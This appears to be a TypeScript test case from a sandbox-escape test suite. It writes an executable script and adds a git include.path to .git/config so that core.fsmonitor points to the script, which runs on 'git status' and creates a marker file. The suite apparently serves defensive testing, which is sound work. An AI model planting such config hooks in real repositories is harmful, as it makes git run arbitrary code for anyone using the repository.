import { type Attack, sh } from '../attack.js'
import { repository, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/included-configuration',
  tries: 'to include a configuration that it can write',
  source: 'git-config(1), include.path',
  prepare: (stage) => repository(stage),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
printf '[core]\nfsmonitor = %s\n' "$S/evil" > "$S/more" && printf '[include]\npath = %s\n' "$S/more" >> "$W/.git/config"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
}
